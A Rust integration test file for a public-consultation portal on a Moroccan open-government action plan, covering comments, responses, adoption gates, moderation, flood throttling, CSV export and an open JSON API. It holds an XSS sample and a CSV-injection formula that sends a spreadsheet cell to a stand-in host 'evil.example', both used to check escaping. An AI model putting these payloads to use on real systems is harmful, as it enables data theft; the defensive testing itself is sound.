//! The consultation on a frozen draft: comments anchored to paragraphs, replies, reasoned
//! responses drafted and published, the e-mail to the author, the adoption gate and its
//! public override, the report and its CSV, the open record API, moderation and the flood.

use std::sync::Arc;

use axum::http::StatusCode;
use domain::consultation::paragraphs;
use domain::permissions::{Grant, Role, Scope};

use crate::harness::{import_morocco, TestApp, START};
use crate::on_both_backends;

on_both_backends!(
    a_participant_comments_on_a_paragraph_and_the_secretariat_responds,
    the_sub_commission_drafts_and_only_the_secretariat_publishes,
    moderators_hide_with_a_tombstone_and_first_posts_can_wait_for_review,
    a_flood_of_comments_is_throttled_without_errors_or_harm_to_others,
    a_proposal_is_merged_into_a_new_draft_commitment,
    adoption_and_consultation_gates_hold_whatever_the_override,
);

const DAY: i64 = 86_400;

fn day_after_start(days: i64) -> String {
    time::OffsetDateTime::from_unix_timestamp(START + days * DAY).unwrap().date().to_string()
}

/// Opens a 21-day consultation on morocco-2 through the back office; returns its id.
async fn open_consultation(app: &mut TestApp) -> i64 {
    let plan = app.state.db.plan_by_slug("morocco-2").await.unwrap().expect("plan");
    let token = app.csrf().await;
    let action = format!("/fr/admin/plans/{}/consultations", plan.id);
    let opened = app
        .post(&action, &[("opens_on", &day_after_start(0)), ("closes_on", &day_after_start(20))], Some(&token))
        .await;
    assert_eq!(opened.status, StatusCode::SEE_OTHER, "{}", opened.body);
    opened.location().split("/consultations/").nth(1).unwrap().split('?').next().unwrap().parse().unwrap()
}

/// A paragraph of the frozen text: its target and its text.
async fn first_paragraph(app: &TestApp, consultation: i64) -> (String, String) {
    let c = app.state.db.consultation(consultation).await.unwrap().expect("consultation");
    for commitment in &c.snapshot.commitments {
        for section in &commitment.sections {
            for locale in section.text.locales() {
                if let Some(first) = paragraphs(section.text.get(locale).unwrap_or("")).first() {
                    return (format!("{}/{}/{}/1", commitment.code, section.key, locale.code()), first.to_string());
                }
            }
        }
    }
    panic!("the frozen draft has no paragraph");
}

fn form_key(body: &str) -> String {
    body.split("name=\"idempotency_key\" value=\"").nth(1).expect("form key").split('"').next().unwrap().to_string()
}

async fn a_participant_comments_on_a_paragraph_and_the_secretariat_responds(app: &mut TestApp) {
    import_morocco(app).await;
    let plan = app.state.db.plan_by_slug("morocco-2").await.unwrap().expect("plan");
    let secretariat = app.signed_in_secretariat().await;

    // The minimum length is enforced when opening.
    let token = app.csrf().await;
    let action = format!("/fr/admin/plans/{}/consultations", plan.id);
    let short = app
        .post(&action, &[("opens_on", &day_after_start(0)), ("closes_on", &day_after_start(12))], Some(&token))
        .await;
    assert_eq!(short.status, StatusCode::UNPROCESSABLE_ENTITY);
    short.assert_contains("consultation est trop courte");
    short.assert_contains("au moins 14 jours");
    assert!(app.state.db.consultations_of_plan(plan.id).await.unwrap().is_empty(), "nothing saved");
    let id = open_consultation(app).await;

    // Once open, it cannot be cut below the minimum nor have its start moved.
    let change = format!("/fr/admin/consultations/{id}");
    let cut =
        app.post(&change, &[("opens_on", &day_after_start(0)), ("closes_on", &day_after_start(5))], Some(&token)).await;
    assert_eq!(cut.status, StatusCode::UNPROCESSABLE_ENTITY);
    let moved = app
        .post(&change, &[("opens_on", &day_after_start(1)), ("closes_on", &day_after_start(30))], Some(&token))
        .await;
    assert_eq!(moved.status, StatusCode::UNPROCESSABLE_ENTITY);
    let stored = app.state.db.consultation(id).await.unwrap().unwrap();
    assert_eq!(stored.closes_on.to_string(), day_after_start(20), "refused changes leave the dates alone");

    // A participant comments on one paragraph, chosen by its link (no JavaScript needed).
    app.verified_user("amina@example.ma", "أمينة", "amina-pass-123").await;
    app.login("amina@example.ma", "amina-pass-123").await;
    let (target, text) = first_paragraph(app, id).await;
    let page = app.get(&format!("/ar/consultations/{id}?target={target}")).await;
    assert_eq!(page.status, StatusCode::OK);
    page.assert_contains(&format!("?target={target}#comment-form"));
    page.assert_contains(&format!("<option value=\"{target}\" selected>"));
    page.assert_contains(&askama_escape(&text));
    let key = form_key(&page.body);
    let token = page.csrf_field();
    let comments = format!("/ar/consultations/{id}/comments");
    let missing_place = format!("{}/99", target.rsplit_once('/').unwrap().0);
    let r = app
        .post(&comments, &[("target", &missing_place), ("body", "نص"), ("idempotency_key", &key)], Some(&token))
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    r.assert_contains("هذا الموضع غير موجود في النص المجمَّد");
    let r = app.post(&comments, &[("target", &target), ("body", "   "), ("idempotency_key", &key)], Some(&token)).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let long = "ن".repeat(5_001);
    let r = app.post(&comments, &[("target", &target), ("body", &long), ("idempotency_key", &key)], Some(&token)).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(app.state.db.consultation_comments(id).await.unwrap().is_empty(), "refusals save nothing");
    let said = "يجب نشر الجدول الزمني <script>alert(1)</script>";
    let fields = [("target", target.as_str()), ("body", said), ("idempotency_key", key.as_str())];
    let first = app.post(&comments, &fields, Some(&token)).await;
    assert_eq!(first.status, StatusCode::SEE_OTHER, "{}", first.body);
    let again = app.post(&comments, &fields, Some(&token)).await;
    assert_eq!(again.location(), first.location(), "a double click stores the comment once");
    let stored = app.state.db.consultation_comments(id).await.unwrap();
    assert_eq!(stored.len(), 1);
    let comment = stored[0].clone();
    assert_eq!(comment.target, target);
    // The page folds its commitments; the address the author is sent to unfolds the comment's.
    assert!(first.location().contains(&format!("comment={}", comment.id)), "{}", first.location());
    let folded = app.get(&format!("/ar/consultations/{id}")).await;
    assert!(!folded.body.contains(&format!("id=\"c-{}\"", comment.id)), "commitments start folded");
    folded.assert_contains("تعليق واحد");
    let shown = app.get(first.location()).await;
    shown.assert_contains(&format!("id=\"c-{}\"", comment.id));
    shown.assert_contains("&#60;script&#62;");
    assert!(!shown.body.contains("<script>alert"), "comments are escaped");

    // A reply stays in the thread and on the same place.
    let reply_key = format!("{key}-r{}", comment.id);
    let reply = app
        .post(
            &comments,
            &[("parent_id", &comment.id.to_string()), ("body", FORMULA), ("idempotency_key", &reply_key)],
            Some(&token),
        )
        .await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
    let thread = app.state.db.consultation_comments(id).await.unwrap();
    assert_eq!((thread[1].parent_id, thread[1].target.as_str()), (Some(comment.id), target.as_str()));

    // The secretariat cannot adopt the plan while the consultation takes comments, whatever
    // the override.
    app.signed_in_again().await;
    let token = app.csrf().await;
    let adopt = format!("/fr/admin/plans/{}/adopt", plan.id);
    let blocked = app.post(&adopt, &[("override_reason", "Échéance fixée par l'OGP")], Some(&token)).await;
    assert_eq!(blocked.status, StatusCode::UNPROCESSABLE_ENTITY);
    blocked.assert_contains("reçoit encore des commentaires");
    assert_eq!(app.state.db.adoption(plan.id).await.unwrap(), None);

    // Once it has closed, not while contributions are unanswered.
    app.clock.advance(21 * DAY);
    app.signed_in_again().await;
    let token = app.csrf().await;
    let blocked = app.post(&adopt, &[], Some(&token)).await;
    assert_eq!(blocked.status, StatusCode::UNPROCESSABLE_ENTITY);
    blocked.assert_contains("pas de réponse publiée");
    blocked.assert_contains("Certaines contributions n&#39;ont pas de réponse publiée");
    assert_eq!(app.state.db.adoption(plan.id).await.unwrap(), None);

    // It drafts a response, which is not public until published; publishing mails the author.
    let respond = format!("/fr/admin/contributions/{}", comment.id);
    let empty = app.post(&format!("{respond}/response"), &[("status", "adopted")], Some(&token)).await;
    assert_eq!(empty.status, StatusCode::UNPROCESSABLE_ENTITY, "a justification is required");
    let drafted = app
        .post(
            &format!("{respond}/response"),
            &[
                ("status", "adopted"),
                ("justification_fr", "Le calendrier sera publié en annexe."),
                ("justification_ar", "سيُنشر الجدول الزمني في ملحق."),
            ],
            Some(&token),
        )
        .await;
    assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
    assert!(
        !app.get(&format!("/ar/consultations/{id}?comment={}", comment.id)).await.body.contains("سيُنشر الجدول الزمني"),
        "drafts stay private"
    );
    let published = app.post(&format!("{respond}/publish"), &[], Some(&token)).await;
    assert_eq!(published.status, StatusCode::SEE_OTHER, "{}", published.body);
    let twice = app.post(&format!("{respond}/publish"), &[], Some(&token)).await;
    assert_eq!(twice.status, StatusCode::UNPROCESSABLE_ENTITY);
    let mail = app.mails_to("amina@example.ma").await.pop().expect("response mail");
    assert_eq!(mail.subject, "Your contribution has received a response");
    assert!(mail.body.contains("Adopted") && mail.body.contains("/en/account/contributions#c-"), "{}", mail.body);
    insta::assert_snapshot!("mail-response-en", mail.as_sent());

    // The author sees it on their page; everyone sees it on the consultation.
    app.login("amina@example.ma", "amina-pass-123").await;
    let mine = app.get("/ar/account/contributions").await;
    mine.assert_contains("سيُنشر الجدول الزمني في ملحق.");
    app.get(&format!("/fr/consultations/{id}?comment={}", comment.id))
        .await
        .assert_contains("Le calendrier sera publié en annexe.");

    // The reply is still unanswered: adopting needs an override, which is logged and public.
    app.signed_in_again().await;
    let token = app.csrf().await;
    let page = app.get(&format!("/fr/admin/plans/{}/contributions", plan.id)).await;
    page.assert_contains("1 contribution n&#39;a pas encore de réponse publiée");
    let adopted = app.post(&adopt, &[("override_reason", "Échéance fixée par l'OGP")], Some(&token)).await;
    assert_eq!(adopted.status, StatusCode::SEE_OTHER, "{}", adopted.body);
    let public = app.get("/fr/plans/morocco-2").await;
    public.assert_contains("Échéance fixée par l&#39;OGP");
    let log = app.state.db.audit_log().await.unwrap();
    assert!(log.iter().any(|e| e.action == "plan.adopt-override" && e.actor_id == Some(secretariat)));
    assert_eq!(store::consultations::verify_chain(&log), Ok(log.len()));

    // The report and its CSV, read by a real CSV parser.
    let report = app.get("/fr/plans/morocco-2/consultation-report").await;
    assert_eq!(report.status, StatusCode::OK);
    report.assert_contains("Le calendrier sera publié en annexe.");
    let csv = app.get("/fr/plans/morocco-2/consultation-report.csv").await;
    assert!(csv.headers["content-type"].to_str().unwrap().starts_with("text/csv"));
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(header[0], "id");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    let status_col = header.iter().position(|h| h == "response_status").unwrap();
    assert_eq!((&rows[0][status_col], &rows[1][status_col]), ("adopted", ""));
    assert_eq!(&rows[0][header.iter().position(|h| h == "text").unwrap()], said, "the CSV holds the text as written");
    // A reply written as a spreadsheet formula is text in the officials' spreadsheet: the
    // apostrophe that spreadsheets hide keeps it from running.
    assert_eq!(rows[1][header.iter().position(|h| h == "text").unwrap()], format!("'{FORMULA}"));

    // The open record: paginated JSON with the published response.
    let api = app.get("/api/v1/contributions?per_page=1").await;
    assert_eq!(api.status, StatusCode::OK);
    let json = api.json();
    assert_eq!((json["total"].as_i64(), json["items"].as_array().unwrap().len()), (Some(2), 1));
    assert_eq!(json["items"][0]["response"]["status"], "adopted");
    assert_eq!(json["items"][0]["response"]["justification"]["fr"], "Le calendrier sera publié en annexe.");
    assert!(api.headers["link"].to_str().unwrap().contains("page=2"));
    let second = app.get("/api/v1/contributions?page=2&per_page=1").await.json();
    assert_eq!((second["items"][0]["response"].is_null(), second["next"].is_null()), (true, true));
    let bad = app.get("/api/v1/contributions?per_page=0").await;
    assert_eq!(
        (bad.status, bad.json()["code"].as_str(), bad.json()["parameter"].as_str()),
        (StatusCode::BAD_REQUEST, Some("invalid-parameter"), Some("per_page"))
    );

    // After the closing day, comments are refused with the reason.
    app.login("amina@example.ma", "amina-pass-123").await;
    // The form token is bound to the session: the new session takes a fresh one.
    let token = app.csrf().await;
    let late =
        app.post(&comments, &[("target", ""), ("body", "متأخر"), ("idempotency_key", "late")], Some(&token)).await;
    assert_eq!(late.status, StatusCode::UNPROCESSABLE_ENTITY);
    late.assert_contains("الاستشارة مغلقة");
    // The writer's text comes back to them, to keep elsewhere; no form to send it again.
    late.assert_contains(r#"readonly>متأخر</textarea>"#);
    assert!(!late.body.contains(r#"id="comment-form""#), "no comment form once closed");
}

/// A reply that a spreadsheet would run as a formula (OWASP CSV injection).
const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"وأضيف: بلغة بسيطة")"#;

/// What askama writes for a text (apostrophes and angle brackets escaped).
fn askama_escape(text: &str) -> String {
    text.replace('&', "&#38;").replace('<', "&#60;").replace('>', "&#62;").replace('"', "&#34;").replace('\'', "&#39;")
}

async fn the_sub_commission_drafts_and_only_the_secretariat_publishes(app: &mut TestApp) {
    import_morocco(app).await;
    app.signed_in_secretariat().await;
    let id = open_consultation(app).await;
    let consultation = app.state.db.consultation(id).await.unwrap().unwrap();
    let commitment = consultation.snapshot.commitments.iter().find(|c| c.theme_id.is_some()).expect("themed");
    let theme = commitment.theme_id.unwrap();

    app.verified_user("citizen@example.ma", "Citizen", "citizen-pass-1").await;
    app.login("citizen@example.ma", "citizen-pass-1").await;
    let page = app.get(&format!("/fr/consultations/{id}")).await;
    let token = page.csrf_field();
    let r = app
        .post(
            &format!("/fr/consultations/{id}/comments"),
            &[("target", &commitment.code), ("body", "Précisez le budget."), ("idempotency_key", "k-1")],
            Some(&token),
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let comment = app.state.db.consultation_comments(id).await.unwrap().remove(0);
    assert_eq!(comment.theme_id, Some(theme), "the comment belongs to its commitment's theme");

    let member = app.verified_user("member@example.ma", "Member", "member-pass-1").await;
    app.grant(member, Grant { role: Role::ForumMember, scope: Scope::Theme(theme) }).await;
    let outsider = app.verified_user("outsider@example.ma", "Outsider", "outsider-pass-1").await;
    app.grant(outsider, Grant { role: Role::ForumMember, scope: Scope::Theme(theme + 1000) }).await;
    let fields = [("status", "partly-adopted"), ("justification_fr", "Le budget sera chiffré.")];
    let respond = format!("/fr/admin/contributions/{}", comment.id);

    app.login("outsider@example.ma", "outsider-pass-1").await;
    let token = app.csrf().await;
    assert_eq!(app.post(&format!("{respond}/response"), &fields, Some(&token)).await.status, StatusCode::FORBIDDEN);

    app.login("member@example.ma", "member-pass-1").await;
    let token = app.csrf().await;
    let list = app.get(&format!("/fr/admin/plans/{}/contributions", consultation.plan_id)).await;
    list.assert_contains(&format!("/fr/admin/contributions/{}", comment.id));
    assert_eq!(app.post(&format!("{respond}/response"), &fields, Some(&token)).await.status, StatusCode::SEE_OTHER);
    assert_eq!(app.post(&format!("{respond}/publish"), &[], Some(&token)).await.status, StatusCode::FORBIDDEN);
    assert!(app.state.db.contribution(comment.id).await.unwrap().unwrap().published_response().is_none());

    app.signed_in_again().await;
    let token = app.csrf().await;
    assert_eq!(app.post(&format!("{respond}/publish"), &[], Some(&token)).await.status, StatusCode::SEE_OTHER);
    let published = app.state.db.contribution(comment.id).await.unwrap().unwrap();
    assert_eq!(published.published_response().map(|r| r.status.code()), Some("partly-adopted"));

    // Once published, the sub-commission can no longer change it.
    app.login("member@example.ma", "member-pass-1").await;
    let token = app.csrf().await;
    assert_eq!(app.post(&format!("{respond}/response"), &fields, Some(&token)).await.status, StatusCode::FORBIDDEN);
}

async fn moderators_hide_with_a_tombstone_and_first_posts_can_wait_for_review(app: &mut TestApp) {
    import_morocco(app).await;
    app.signed_in_secretariat().await;
    let id = open_consultation(app).await;
    let mut config = (*app.state.config).clone();
    config.premoderate_first = true;
    app.state.config = Arc::new(config);
    app.router = web::app(app.state.clone());

    app.verified_user("new@example.ma", "Nouveau", "new-pass-123").await;
    app.login("new@example.ma", "new-pass-123").await;
    let token = app.csrf().await;
    let comments = format!("/fr/consultations/{id}/comments");
    let sent = app.post(&comments, &[("body", "Achetez nos produits"), ("idempotency_key", "n-1")], Some(&token)).await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER);
    assert!(sent.location().contains("notice=pending"), "the author is told it waits: {}", sent.location());
    let held = app.state.db.consultation_comments(id).await.unwrap().remove(0);
    assert!(held.pending);
    app.get(&format!("/fr/consultations/{id}")).await.assert_contains("En attente de validation par un modérateur");

    app.verified_user("other@example.ma", "Autre", "other-pass-123").await;
    app.login("other@example.ma", "other-pass-123").await;
    assert!(
        !app.get(&format!("/fr/consultations/{id}")).await.body.contains("Achetez nos produits"),
        "held back from others"
    );
    assert_eq!(app.get("/api/v1/contributions").await.json()["total"], 0);

    // The moderator approves it; then another participant flags it; it is hidden.
    app.signed_in_again().await;
    let token = app.csrf().await;
    app.get("/fr/admin/moderation").await.assert_contains("Achetez nos produits");
    let approve = app.post(&format!("/fr/admin/contributions/{}/approve", held.id), &[], Some(&token)).await;
    assert_eq!(approve.status, StatusCode::SEE_OTHER);

    app.login("other@example.ma", "other-pass-123").await;
    let token = app.csrf().await;
    let flagged =
        app.post(&format!("/fr/contributions/{}/flag", held.id), &[("reason", "publicité")], Some(&token)).await;
    assert_eq!(flagged.status, StatusCode::SEE_OTHER);
    assert!(flagged.location().contains("notice=flagged"));

    app.signed_in_again().await;
    let token = app.csrf().await;
    let queue = app.get("/fr/admin/moderation").await;
    queue.assert_contains("publicité");
    let hide = format!("/fr/admin/contributions/{}/hide", held.id);
    assert_eq!(app.post(&hide, &[("reason", " ")], Some(&token)).await.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(app.post(&hide, &[("reason", "Publicité")], Some(&token)).await.status, StatusCode::SEE_OTHER);
    let page = app.get(&format!("/fr/consultations/{id}")).await;
    page.assert_contains("Masquée par un modérateur");
    assert!(!page.body.contains("Achetez nos produits"), "the tombstone does not show the text");
    let record = app.get("/api/v1/contributions").await.json();
    assert_eq!(
        (record["items"][0]["body"].is_null(), record["items"][0]["hidden_reason"].as_str()),
        (true, Some("Publicité"))
    );
    assert_eq!(
        app.state.db.contribution(held.id).await.unwrap().unwrap().body,
        "Achetez nos produits",
        "nothing destroyed"
    );
    let actions: Vec<String> = app.state.db.audit_log().await.unwrap().into_iter().map(|e| e.action).collect();
    for expected in ["contribution.approve", "contribution.report", "contribution.hide"] {
        assert!(actions.iter().any(|a| a == expected), "{expected} in {actions:?}");
    }

    // Visitors cannot moderate; participants cannot see the queue.
    app.login("other@example.ma", "other-pass-123").await;
    assert_eq!(app.get("/fr/admin/moderation").await.status, StatusCode::FORBIDDEN);
}

async fn a_flood_of_comments_is_throttled_without_errors_or_harm_to_others(app: &mut TestApp) {
    import_morocco(app).await;
    app.signed_in_secretariat().await;
    let id = open_consultation(app).await;
    let comments = format!("/ar/consultations/{id}/comments");

    // Signed out, or with an address never verified (such an account cannot sign in), nobody comments.
    let token = app.csrf().await;
    app.post("/en/logout", &[], Some(&token)).await;
    let register = [
        ("name", "Unverified"),
        ("email", "unverified@example.ma"),
        ("password", "unverified-pass-1"),
        ("password_confirm", "unverified-pass-1"),
    ];
    app.submit("/en/register", "/en/register", &register).await;
    assert_ne!(app.login("unverified@example.ma", "unverified-pass-1").await.status, StatusCode::SEE_OTHER);
    let token = app.csrf().await;
    let refused = app.post(&comments, &[("body", "Bonjour"), ("idempotency_key", "u-1")], Some(&token)).await;
    assert!(refused.status.is_redirection() || refused.status.is_client_error(), "{}", refused.status);
    assert!(!refused.location().contains("/consultations/"), "not stored: {}", refused.location());
    assert!(app.state.db.consultation_comments(id).await.unwrap().is_empty());

    app.verified_user("flood@example.ma", "Flood", "flood-pass-123").await;
    app.verified_user("calm@example.ma", "Calm", "calm-pass-123").await;
    app.login("flood@example.ma", "flood-pass-123").await;
    let token = app.csrf().await;
    let mut by_status: std::collections::BTreeMap<u16, usize> = Default::default();
    for n in 0..1_000 {
        let key = format!("flood-{n}");
        let r = app.post(&comments, &[("body", "رسالة متكررة"), ("idempotency_key", &key)], Some(&token)).await;
        *by_status.entry(r.status.as_u16()).or_default() += 1;
    }
    let limit = app.state.config.limits.contributions_per_user as usize;
    assert_eq!(by_status.get(&303), Some(&limit), "{by_status:?}");
    assert_eq!(by_status.get(&429), Some(&(1_000 - limit)), "{by_status:?}");
    assert!(by_status.keys().all(|s| *s < 500), "no server error: {by_status:?}");
    assert_eq!(app.state.db.consultation_comments(id).await.unwrap().len(), limit);

    app.login("calm@example.ma", "calm-pass-123").await;
    let token = app.csrf().await;
    let r = app.post(&comments, &[("body", "رأيي"), ("idempotency_key", "calm-1")], Some(&token)).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "another participant is not affected");
}

async fn a_proposal_is_merged_into_a_new_draft_commitment(app: &mut TestApp) {
    use domain::contribution::ContributionInput;
    import_morocco(app).await;
    let plan = app.state.db.plan_by_slug("morocco-2").await.unwrap().expect("plan");
    let theme = app.state.db.themes_of(plan.id).await.unwrap().remove(0).id;
    let author = app.verified_user("idea@example.ma", "Idée", "idea-pass-123").await;
    let input = ContributionInput::proposal(
        plan.id,
        &theme.to_string(),
        &[theme],
        "Budget citoyen",
        "Publier un budget citoyen.",
        "",
    )
    .unwrap();
    let proposal = app.state.db.add_contribution(&input, author, "p-1", false, START).await.unwrap();
    app.signed_in_secretariat().await;
    let token = app.csrf().await;
    let merge = format!("/fr/admin/contributions/{proposal}/merge");
    let taken = app.post(&merge, &[("code", "MO0050")], Some(&token)).await;
    assert_eq!(taken.status, StatusCode::UNPROCESSABLE_ENTITY, "an existing code is refused");
    assert_eq!(app.post(&merge, &[("code", "MO 9")], Some(&token)).await.status, StatusCode::UNPROCESSABLE_ENTITY);
    let merged = app.post(&merge, &[("code", "mo9001")], Some(&token)).await;
    assert_eq!(merged.status, StatusCode::SEE_OTHER, "{}", merged.body);
    let commitment = app.state.db.commitment_by_code("MO9001").await.unwrap().expect("new draft commitment");
    assert_eq!((commitment.plan_id, commitment.theme_id), (plan.id, Some(theme)));
    assert_eq!(commitment.text("title").get(domain::Locale::Fr), Some("Budget citoyen"));
    let response = app.state.db.contribution(proposal).await.unwrap().unwrap().response.expect("drafted");
    assert_eq!(
        (response.status.code(), response.merged_into.as_deref(), response.published_at),
        ("merged", Some("MO9001"), None)
    );
    let page = app.get(&format!("/fr/admin/contributions/{proposal}")).await;
    page.assert_contains("value=\"MO9001\"");
    assert_eq!(
        app.post(&format!("/fr/admin/contributions/{proposal}/publish"), &[], Some(&token)).await.status,
        StatusCode::SEE_OTHER
    );
    let public = app.get(&format!("/fr/proposals/{proposal}")).await;
    public.assert_contains("/fr/commitments/MO9001");
}

/// OGP's process, held by the portal: no adoption of a plan without commitments, without a
/// consultation held, or while one takes comments (an override does not open these gates); no
/// consultation that ends in the past or overlaps another. Each refusal is said in the
/// secretariat's language and saves nothing.
async fn adoption_and_consultation_gates_hold_whatever_the_override(app: &mut TestApp) {
    import_morocco(app).await;
    app.signed_in_secretariat().await;
    let plan = app.state.db.plan_by_slug("morocco-2").await.unwrap().expect("plan");
    let token = app.csrf().await;
    let reason = [("override_reason", "Échéance fixée par l'OGP")];

    // A plan with no commitment.
    let created = app
        .post(
            "/ar/admin/plans",
            &[("slug", "empty-plan"), ("member", "Morocco"), ("number", "9"), ("title_ar", "خطة فارغة")],
            Some(&token),
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    let empty = app.state.db.plan_by_slug("empty-plan").await.unwrap().expect("plan");
    let refused = app.post(&format!("/ar/admin/plans/{}/adopt", empty.id), &reason, Some(&token)).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    refused.assert_contains("لا تتضمن هذه الخطة أي التزام بعد");

    // A plan whose draft was never consulted on.
    let adopt = format!("/ar/admin/plans/{}/adopt", plan.id);
    let refused = app.post(&adopt, &reason, Some(&token)).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    refused.assert_contains("لم يُعرض مشروع هذه الخطة على استشارة عمومية بعد");

    // A consultation that would end in the past.
    let open = format!("/ar/admin/plans/{}/consultations", plan.id);
    let past = app
        .post(&open, &[("opens_on", &day_after_start(-40)), ("closes_on", &day_after_start(-10))], Some(&token))
        .await;
    assert_eq!(past.status, StatusCode::UNPROCESSABLE_ENTITY);
    past.assert_contains("لا يمكن أن تنتهي استشارة في الماضي");
    assert!(app.state.db.consultations_of_plan(plan.id).await.unwrap().is_empty(), "nothing saved");

    // One over the dates of another.
    let first = open_consultation(app).await;
    let overlap =
        app.post(&open, &[("opens_on", &day_after_start(10)), ("closes_on", &day_after_start(30))], Some(&token)).await;
    assert_eq!(overlap.status, StatusCode::UNPROCESSABLE_ENTITY);
    overlap.assert_contains("تغطي استشارة أخرى حول هذه الخطة بعض هذه التواريخ");
    assert_eq!(app.state.db.consultations_of_plan(plan.id).await.unwrap().len(), 1);

    // Adoption while it takes comments, in French this time.
    let refused = app.post(&format!("/fr/admin/plans/{}/adopt", plan.id), &reason, Some(&token)).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    refused.assert_contains("reçoit encore des commentaires");
    assert_eq!(app.state.db.adoption(plan.id).await.unwrap(), None, "nothing adopted");

    // Once it has closed, the plan is adopted.
    app.clock.advance(21 * DAY);
    app.signed_in_again().await;
    let token = app.csrf().await;
    let adopted = app.post(&adopt, &[], Some(&token)).await;
    assert_eq!(adopted.status, StatusCode::SEE_OTHER, "{}", adopted.body);
    assert!(app.state.db.adoption(plan.id).await.unwrap().is_some());
    assert_eq!(app.state.db.consultation(first).await.unwrap().unwrap().closes_on.to_string(), day_after_start(20));
}
